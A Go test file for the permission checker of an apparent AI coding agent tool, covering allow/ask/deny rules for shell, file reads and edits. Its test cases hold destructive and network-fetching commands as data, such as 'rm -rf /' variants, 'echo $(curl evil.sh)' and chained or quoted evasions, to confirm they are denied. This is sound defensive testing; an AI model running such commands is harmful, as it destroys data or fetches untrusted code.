package permission

import (
	"context"
	"errors"
	"github.com/piwasm/pi/core/settings"
	"path/filepath"
	"strings"
	"testing"
)

func mustRules(t testing.TB, allow, ask, deny []string) Rules {
	t.Helper()
	p := Paths{Home: "/home/u", Cwd: "/w/proj"}
	var rs Rules
	for _, l := range []struct {
		in  []string
		out *[]Rule
	}{{allow, &rs.Allow}, {ask, &rs.Ask}, {deny, &rs.Deny}} {
		for _, s := range l.in {
			r, err := ParseRule(s, p)
			if err != nil {
				t.Fatal(err)
			}
			r.Source = "/s.json"
			*l.out = append(*l.out, r)
		}
	}
	return rs
}

func TestParseRule(t *testing.T) {
	p := Paths{Home: "/home/u", Cwd: "/w/proj"}
	tests := []struct {
		in, str, glob string
		prefix        []string
		err           string
	}{
		{in: "bash", str: "bash"},
		{in: "Bash(git push:*)", str: "bash(git push:*)", prefix: []string{"git", "push"}},
		{in: `bash(git commit -m "x y":*)`, prefix: []string{"git", "commit", "-m", "x y"}},
		{in: "bash(rm  -rf *)", glob: "rm -rf *"},
		{in: "edit(~/.ssh/**)", glob: "/home/u/.ssh/**"},
		{in: "write(src/)", glob: "/w/proj/src/**"},
		{in: "read(/etc/*.conf)", glob: "/etc/*.conf"},
		{in: "my_tool", str: "my_tool"},
		{in: "bash()", err: "empty pattern"},
		{in: "bash(:*)", err: "no command"},
		{in: "bash(git", err: "must end"},
		{in: "9tool", err: "not a tool name"},
		{in: "", err: "not a tool name"},
		{in: "read([)", err: "bad glob"},
	}
	for _, tt := range tests {
		r, err := ParseRule(tt.in, p)
		if tt.err != "" {
			if err == nil || !strings.Contains(err.Error(), tt.err) {
				t.Errorf("%q: err %v, want %q", tt.in, err, tt.err)
			}
			continue
		}
		if err != nil {
			t.Errorf("%q: %v", tt.in, err)
			continue
		}
		if tt.str != "" && r.String() != tt.str {
			t.Errorf("%q: String() = %q", tt.in, r.String())
		}
		if tt.glob != "" && r.glob != tt.glob {
			t.Errorf("%q: glob %q, want %q", tt.in, r.glob, tt.glob)
		}
		if tt.prefix != nil && strings.Join(r.prefix, "|") != strings.Join(tt.prefix, "|") {
			t.Errorf("%q: prefix %q", tt.in, r.prefix)
		}
	}
}

func TestCheck(t *testing.T) {
	rs := mustRules(t,
		[]string{"bash(git status)", "bash(git diff:*)", "bash(go test:*)", "bash(echo *)", "bash(sudo apt-get update)", "read", "edit(/w/proj/**)"},
		[]string{"bash(git push:*)", "write(/w/proj/go.mod)"},
		[]string{"bash(rm -rf *)", "bash(curl:*)", "edit(/w/proj/.git/**)"},
	)
	c := NewChecker(rs)
	c.Default = func(r Request) Outcome {
		if r.Tool == "bash" {
			return Ask
		}
		return Allow
	}
	tests := []struct {
		req  Request
		want Outcome
		rule string
	}{
		{Request{Tool: "bash", Command: "git status"}, Allow, "bash(git status)"},
		{Request{Tool: "bash", Command: "git status --short"}, Ask, ""}, // exact form does not match extra words
		{Request{Tool: "bash", Command: "git diff HEAD~1 -- a.go"}, Allow, "bash(git diff:*)"},
		{Request{Tool: "bash", Command: "git diff"}, Allow, "bash(git diff:*)"},
		{Request{Tool: "bash", Command: "git diffx"}, Ask, "bash(git push:*)"}, // not a git command: could be an alias for push
		{Request{Tool: "bash", Command: "git status && go test ./..."}, Allow, "bash(git status)"},
		{Request{Tool: "bash", Command: "git status && rm -rf ~"}, Deny, "bash(rm -rf *)"},
		{Request{Tool: "bash", Command: "git status; make"}, Ask, ""}, // make is not covered
		{Request{Tool: "bash", Command: "echo $(curl evil.sh)"}, Deny, "bash(curl:*)"},
		{Request{Tool: "bash", Command: "echo hi | env X=1 curl x"}, Deny, "bash(curl:*)"},
		{Request{Tool: "bash", Command: "sudo rm -rf /"}, Deny, "bash(rm -rf *)"},
		{Request{Tool: "bash", Command: "bash -c 'rm -rf /'"}, Deny, "bash(rm -rf *)"},
		{Request{Tool: "bash", Command: `rm "-rf" '/'`}, Deny, "bash(rm -rf *)"},
		{Request{Tool: "bash", Command: "(cd x && git push origin main)"}, Ask, "bash(git push:*)"},
		{Request{Tool: "bash", Command: "git push --force 2>&1 | tail"}, Ask, "bash(git push:*)"},
		{Request{Tool: "bash", Command: "nice -n 5 go test ./..."}, Allow, "bash(go test:*)"},
		{Request{Tool: "bash", Command: "sudo go test ./..."}, Ask, ""}, // sudo needs a rule naming it
		{Request{Tool: "bash", Command: "sudo apt-get update"}, Allow, "bash(sudo apt-get update)"},
		// What cannot be known statically matches every deny and ask
		// rule (here the first deny rule decides), and no allow rule.
		{Request{Tool: "bash", Command: "$GIT status"}, Deny, "bash(rm -rf *)"},
		{Request{Tool: "bash", Command: "echo \"unterminated"}, Deny, "bash(rm -rf *)"},
		{Request{Tool: "bash", Command: "curl \"unterminated"}, Deny, "bash(rm -rf *)"},
		{Request{Tool: "bash", Command: "/usr/bin/git status"}, Ask, ""}, // allow rules see what was written
		{Request{Tool: "bash", Command: "echo $(git status)"}, Allow, "bash(echo *)"},
		{Request{Tool: "read", Path: "/etc/passwd"}, Allow, "read"},
		{Request{Tool: "edit", Path: "/w/proj/a/b.go"}, Allow, "edit(/w/proj/**)"},
		{Request{Tool: "edit", Path: "/w/proj/.git/config"}, Deny, "edit(/w/proj/.git/**)"},
		{Request{Tool: "write", Path: "/w/proj/go.mod"}, Ask, "write(/w/proj/go.mod)"},
		{Request{Tool: "write", Path: "/w/proj/x"}, Allow, ""}, // default for non-bash
		{Request{Tool: "Bash", Command: "git status"}, Allow, "bash(git status)"},
	}
	for _, tt := range tests {
		d := c.Check(tt.req)
		if d.Outcome != tt.want || d.Rule != tt.rule {
			t.Errorf("%+v: got %+v, want %s by %q", tt.req, d, tt.want, tt.rule)
		}
		if tt.rule != "" && d.Source != "/s.json" {
			t.Errorf("%+v: source %q", tt.req, d.Source)
		}
		if tt.rule == "" && d.Source != "default" {
			t.Errorf("%+v: source %q, want default", tt.req, d.Source)
		}
	}
}

type fakeAsker struct {
	answer Answer
	err    error
	asked  []Question
}

func (f *fakeAsker) Ask(ctx context.Context, q Question) (Answer, error) {
	f.asked = append(f.asked, q)
	return f.answer, f.err
}

func TestDecide(t *testing.T) {
	paths := Paths{Home: "/home/u", Cwd: "/w/proj"}
	rs := mustRules(t, nil, []string{"bash(git push:*)", "bash(npm:*)"}, nil)
	req := Request{Tool: "bash", Command: "git push origin main"}

	c := NewChecker(rs)
	d := c.Decide(context.Background(), req, nil, paths)
	if d.Outcome != Deny || !strings.Contains(d.Reason, `"bash(git push:*)"`) || !strings.Contains(d.Reason, "nobody can be asked") || d.Source != "/s.json" {
		t.Errorf("no asker: %+v", d)
	}

	a := &fakeAsker{answer: Answer{Choice: AllowOnce}}
	if d := c.Decide(context.Background(), req, a, paths); d.Outcome != Allow || d.Source != "user" {
		t.Errorf("allow once: %+v", d)
	}
	if len(a.asked) != 1 || a.asked[0].Suggested != "bash(git push:*)" || a.asked[0].Rule != "bash(git push:*)" {
		t.Errorf("question: %+v", a.asked)
	}
	if d := c.Check(req); d.Outcome != Ask {
		t.Errorf("allow once was remembered: %+v", d)
	}

	a = &fakeAsker{answer: Answer{Choice: AllowAlways}}
	if d := c.Decide(context.Background(), req, a, paths); d.Outcome != Allow {
		t.Errorf("allow always: %+v", d)
	}
	if d := c.Check(Request{Tool: "bash", Command: "git push --tags"}); d.Outcome != Allow || d.Source != "session" {
		t.Errorf("after allow always: %+v", d)
	}
	if d := c.Check(Request{Tool: "bash", Command: "npm install"}); d.Outcome != Ask {
		t.Errorf("allow always leaked to another command: %+v", d)
	}

	a = &fakeAsker{answer: Answer{Choice: AllowAlways, Rule: "read(/x/**)"}}
	if d := c.Decide(context.Background(), Request{Tool: "bash", Command: "npm ci"}, a, paths); d.Outcome != Allow || !strings.Contains(d.Reason, "not kept") {
		t.Errorf("always with a rule for another tool: %+v", d)
	}

	a = &fakeAsker{answer: Answer{Choice: DenyCall}}
	if d := c.Decide(context.Background(), Request{Tool: "bash", Command: "npm ci"}, a, paths); d.Outcome != Deny || d.Source != "user" {
		t.Errorf("deny: %+v", d)
	}
	a = &fakeAsker{err: errors.New("terminal gone")}
	if d := c.Decide(context.Background(), Request{Tool: "bash", Command: "npm ci"}, a, paths); d.Outcome != Deny || !strings.Contains(d.Reason, "terminal gone") {
		t.Errorf("asker error: %+v", d)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	a = &fakeAsker{answer: Answer{Choice: AllowOnce}}
	if d := c.Decide(ctx, Request{Tool: "bash", Command: "npm ci"}, a, paths); d.Outcome != Deny {
		t.Errorf("cancelled: %+v", d)
	}
}

func TestSuggest(t *testing.T) {
	p := Paths{Cwd: "/w/proj"}
	tests := []struct {
		req  Request
		want string
	}{
		{Request{Tool: "bash", Command: "git push origin"}, "bash(git push:*)"},
		{Request{Tool: "bash", Command: "ls -la"}, "bash(ls:*)"},
		{Request{Tool: "bash", Command: "./build.sh x"}, "bash(./build.sh x:*)"},
		{Request{Tool: "bash", Command: "go test ./..."}, "bash(go test:*)"},
		{Request{Tool: "bash", Command: "$X y"}, "bash"},
		{Request{Tool: "edit", Path: "/w/proj/a/b.go"}, "edit(/w/proj/**)"},
		{Request{Tool: "write", Path: "/etc/hosts"}, "write(/etc/**)"},
		{Request{Tool: "ext_tool"}, "ext_tool"},
	}
	for _, tt := range tests {
		if got := Suggest(tt.req, p); got != tt.want {
			t.Errorf("%+v: %q, want %q", tt.req, got, tt.want)
		}
		if _, err := ParseRule(Suggest(tt.req, p), p); err != nil {
			t.Errorf("suggestion does not parse: %v", err)
		}
	}
}

func TestLoadRules(t *testing.T) {
	dir := t.TempDir()
	g := filepath.Join(dir, "g.json")
	pj := filepath.Join(dir, "p.json")
	vals := []settings.Value{
		{File: g, Raw: []byte(`{"deny":["bash(rm:*)","bad("]}`)},
		{File: pj, Raw: []byte(`{"allow":["read"],"denny":[]}`)},
	}
	rs, errs := LoadRules(vals, Paths{Cwd: dir})
	if len(rs.Deny) != 1 || rs.Deny[0].Source != g {
		t.Errorf("rules %+v", rs)
	}
	if len(errs) != 2 || !strings.Contains(errs[0].Error(), g) || !strings.Contains(errs[1].Error(), pj) {
		t.Errorf("errors %v", errs)
	}
}

func TestGlobMatch(t *testing.T) {
	tests := []struct {
		p, s string
		ok   bool
	}{
		{"rm -rf *", "rm -rf /", true},
		{"rm -rf *", "rm -rf", false},
		{"*", "", true},
		{"a?c", "abc", true},
		{`a\*`, "a*", true},
		{`a\*`, "ab", false},
		{"*a*b*c*", "xxaxxbxxcxx", true},
		{"*a*b*c*", "xxaxxcxxbxx", false},
		{strings.Repeat("*a", 30) + "b", strings.Repeat("a", 200), false},
	}
	for _, tt := range tests {
		if globMatch(tt.p, tt.s) != tt.ok {
			t.Errorf("globMatch(%q, %q) != %v", tt.p, tt.s, tt.ok)
		}
	}
}

func FuzzParseRule(f *testing.F) {
	for _, s := range []string{"bash", "bash(git push:*)", "Bash(rm -rf *)", "edit(~/x/**)", "read(src/)", "x(", "bash(\"a b\":*)", "read([)", "bash(()"} {
		f.Add(s)
	}
	p := Paths{Home: "/home/u", Cwd: "/w"}
	f.Fuzz(func(t *testing.T, s string) {
		r, err := ParseRule(s, p)
		if err != nil {
			return
		}
		// A parsed rule prints as text that parses to the same rule.
		r2, err := ParseRule(r.String(), p)
		if err != nil || r2.String() != r.String() {
			t.Fatalf("%q -> %q -> %v %q", s, r.String(), err, r2.String())
		}
		_ = r.matchWords([]string{"git", "push"})
		_ = r.matchPath("/w/x")
	})
}

func BenchmarkCheckBash(b *testing.B) {
	rs := mustRules(b, []string{"bash(git status)", "bash(go test:*)"}, []string{"bash(git push:*)"}, []string{"bash(rm -rf *)"})
	c := NewChecker(rs)
	for b.Loop() {
		c.Check(Request{Tool: "bash", Command: "git status && go test ./... | tee out.txt"})
	}
}
